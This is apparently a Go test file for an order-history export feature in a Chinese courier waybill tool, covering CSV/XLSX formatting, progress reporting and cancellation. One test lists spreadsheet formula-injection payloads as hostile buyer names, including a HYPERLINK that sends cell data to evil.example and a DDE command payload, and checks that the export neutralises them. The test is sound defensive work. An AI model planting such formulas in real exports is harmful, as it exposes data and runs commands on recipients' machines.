package batch

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"waybilldesk/store"
)

// historyWithOrders writes orders straight into a history: a placed one
// whose waybill id is 15 digits (what Excel would round), a failed one and
// one from last month.
func historyWithOrders(t *testing.T) (*store.DB, time.Time) {
	t.Helper()
	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(t.TempDir(), "history.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	now := time.Date(2026, 11, 22, 15, 30, 0, 0, time.Local)
	add := func(id, status string, at time.Time) {
		err := db.CopyOrder(ctx, &store.Order{OrderID: id, DeliveryID: "ZTO", BizID: "SANDBOX_ZTO", ServiceName: "标准快件",
			Status: store.StatusSubmitting, Request: json.RawMessage(`{}`), ReceiverName: "王小蒙", ReceiverPhone: "18610000000",
			ReceiverCity: "广州市", CreatedAt: at})
		if err != nil {
			t.Fatal(err)
		}
		switch status {
		case store.StatusPlaced:
			if err := db.Placed(ctx, id, "731234567890123", nil, "", "addOrder", time.Now()); err != nil {
				t.Fatal(err)
			}
		case store.StatusFailed:
			if err := db.Refused(ctx, id, store.Expect{}, 9300501, "收件人信息异常", time.Now()); err != nil {
				t.Fatal(err)
			}
		}
	}
	add("3012345678901234567", store.StatusPlaced, now)
	add("TB-2", store.StatusFailed, now.Add(-time.Hour))
	add("OLD-1", store.StatusPlaced, now.AddDate(0, -1, 0))
	return db, now
}

func TestExportCSVRoundTrip(t *testing.T) {
	db, now := historyWithOrders(t)
	var buf bytes.Buffer
	q := store.OrderQuery{From: now.AddDate(0, 0, -7), To: now.Add(time.Minute)}
	n, err := Export(context.Background(), db, q, FormatCSV, &buf)
	if err != nil || n != 2 {
		t.Fatalf("exported %d, %v", n, err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\ufeff")) {
		t.Fatal("no BOM: Excel would show the Chinese header garbled")
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(recs[0], ",") != strings.Join(ExportHeader(), ",") || !strings.Contains(recs[0][6], "运单号 waybill_id") {
		t.Fatalf("header %v", recs[0])
	}
	got := map[string]string{}
	for i, h := range recs[0] {
		got[strings.Fields(h)[1]] = recs[1][i]
	}
	want := map[string]string{"order_id": "3012345678901234567", "created": "2026-11-22 15:30:00", "status": "placed",
		"courier": "ZTO", "service": "标准快件", "waybill_id": "731234567890123", "receiver_name": "王小蒙",
		"receiver_phone": "18610000000", "receiver_city": "广州市", "errcode": ""}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s = %q, want %q", k, got[k], v)
		}
	}
	if recs[2][0] != "TB-2" || recs[2][13] != "9300501" || recs[2][14] != "收件人信息异常" {
		t.Fatalf("failed order row %v", recs[2])
	}
}

func TestExportXLSX(t *testing.T) {
	db, _ := historyWithOrders(t)
	var buf bytes.Buffer
	n, err := Export(context.Background(), db, store.OrderQuery{Status: store.StatusPlaced}, FormatXLSX, &buf)
	if err != nil || n != 2 {
		t.Fatalf("exported %d, %v", n, err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	if v, _ := f.GetCellValue(sheet, "G1"); v != "运单号 waybill_id" {
		t.Fatalf("G1 = %q", v)
	}
	for _, ref := range []string{"A2", "G2", "I2"} {
		typ, err := f.GetCellType(sheet, ref)
		if err != nil || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Fatalf("%s has cell type %v (%v), want a string", ref, typ, err)
		}
	}
	if v, _ := f.GetCellValue(sheet, "G2"); v != "731234567890123" {
		t.Fatalf("waybill id %q", v)
	}
	if v, _ := f.GetCellValue(sheet, "A2"); v != "3012345678901234567" {
		t.Fatalf("order id %q", v)
	}
	// created is a real date cell, shown as a date.
	if typ, _ := f.GetCellType(sheet, "B2"); typ == excelize.CellTypeInlineString {
		t.Fatal("created is text, not a date")
	}
	if v, _ := f.GetCellValue(sheet, "B2"); v != "2026-11-22 15:30:00" {
		t.Fatalf("created shows %q", v)
	}
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Fatalf("panes %+v %v", panes, err)
	}
	if w, _ := f.GetColWidth(sheet, "G"); w < 20 {
		t.Fatalf("waybill column width %v", w)
	}
}

func TestExportFormatOf(t *testing.T) {
	if f, err := ExportFormatOf("a/B.XLSX"); err != nil || f != FormatXLSX {
		t.Fatal(f, err)
	}
	if _, err := ExportFormatOf("b.xls"); err == nil {
		t.Fatal(".xls accepted")
	}
}

// TestExportFileReportsProgressAndCancelsCleanly: 1,200 orders are three
// pages; progress counts them against the total; the printed filter is
// honoured; a cancelled export leaves neither the file nor a temporary.
func TestExportFileReportsProgressAndCancelsCleanly(t *testing.T) {
	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(t.TempDir(), "history.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	base := time.Now().Add(-time.Hour)
	const total = 1200
	for i := 0; i < total; i++ {
		err := db.CopyOrder(ctx, &store.Order{OrderID: fmt.Sprintf("P%05d", i), DeliveryID: "ZTO", Status: store.StatusFailed,
			Request: json.RawMessage(`{}`), ReceiverName: "王小蒙", ReceiverPhone: "18610000000", CreatedAt: base.Add(time.Duration(i) * time.Millisecond)})
		if err != nil {
			t.Fatal(err)
		}
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "all.csv")
	var reports [][2]int
	n, err := ExportFile(ctx, db, path, store.OrderQuery{}, ExportOptions{Progress: func(done, total int) { reports = append(reports, [2]int{done, total}) }})
	if err != nil || n != total {
		t.Fatalf("exported %d, %v", n, err)
	}
	want := [][2]int{{0, total}, {500, total}, {1000, total}, {total, total}}
	if fmt.Sprint(reports) != fmt.Sprint(want) {
		t.Errorf("progress %v, want %v", reports, want)
	}
	if fi, err := os.Stat(path); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("%s: %v %v", path, err, fi)
	}
	if c, _ := db.CountOrders(ctx, store.OrderQuery{Status: store.StatusFailed}); c != total {
		t.Errorf("count %d", c)
	}

	// Nothing printed yet: "printed" exports none, "not printed" all.
	printed := true
	if n, err := ExportFile(ctx, db, filepath.Join(dir, "printed.xlsx"), store.OrderQuery{Printed: &printed}, ExportOptions{}); err != nil || n != 0 {
		t.Errorf("printed only: %d, %v", n, err)
	}

	// Stopped after the first page: an error, and no file at all.
	stopped := filepath.Join(dir, "stopped.xlsx")
	cctx, cancel := context.WithCancel(ctx)
	_, err = ExportFile(cctx, db, stopped, store.OrderQuery{}, ExportOptions{Progress: func(done, _ int) {
		if done >= 500 {
			cancel()
		}
	}})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled export: %v", err)
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if e.Name() != "all.csv" && e.Name() != "printed.xlsx" {
			t.Errorf("%s left behind", e.Name())
		}
	}
}

// TestExportedFormulasAreInert: a buyer's name or remark from a shop
// back-end that a spreadsheet would run is written as text in CSV (a
// leading apostrophe) and as a text cell, never a formula, in XLSX;
// numbers stay numbers.
func TestExportedFormulasAreInert(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"点我")`, `=cmd|' /C calc'!A0`, `@SUM(1)`, `+1+1`, `-2+3`, "\t=1+1", "\r=1+1"}
	for _, s := range hostile {
		if got := InertCSV(s); !strings.HasPrefix(got, "'") || got[1:] != s {
			t.Errorf("InertCSV(%q) = %q", s, got)
		}
	}
	for _, s := range []string{"-1", "+8.5", "9300501", "王小蒙", "", "a=b"} {
		if got := InertCSV(s); got != s {
			t.Errorf("InertCSV(%q) = %q, want it unchanged", s, got)
		}
	}

	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(t.TempDir(), "history.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for i, name := range hostile[:4] {
		if err := db.CopyOrder(ctx, &store.Order{OrderID: fmt.Sprintf("F-%d", i), DeliveryID: "ZTO", Status: store.StatusFailed,
			Request: json.RawMessage(`{}`), ReceiverName: name, ErrorCode: -1, ErrorMsg: "=1+1"}); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := Export(ctx, db, store.OrderQuery{}, FormatCSV, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs[1:] {
		for i, v := range r {
			if v != "" && strings.ContainsRune("=+@\t\r", rune(v[0])) {
				t.Errorf("CSV cell %q (%s) would run as a formula", v, recs[0][i])
			}
		}
		if r[13] != "-1" {
			t.Errorf("errcode %q, want the number -1", r[13])
		}
	}

	buf.Reset()
	if _, err := Export(ctx, db, store.OrderQuery{}, FormatXLSX, &buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	rows, _ := f.GetRows(sheet)
	for r := 2; r <= len(rows); r++ {
		for c := 1; c <= len(rows[0]); c++ {
			ref, _ := excelize.CoordinatesToCellName(c, r)
			if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
				t.Errorf("XLSX %s holds the formula %q", ref, formula)
			}
		}
	}
	names := map[string]bool{}
	for r := 2; r <= 5; r++ {
		ref, _ := excelize.CoordinatesToCellName(8, r) // 收件人 receiver_name
		v, _ := f.GetCellValue(sheet, ref)
		if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("XLSX receiver %s = %q is of cell type %v, want a text cell", ref, v, typ)
		}
		names[v] = true
	}
	for _, s := range hostile[:4] {
		if !names[s] {
			t.Errorf("XLSX lost the receiver text %q (has %v)", s, names)
		}
	}
}
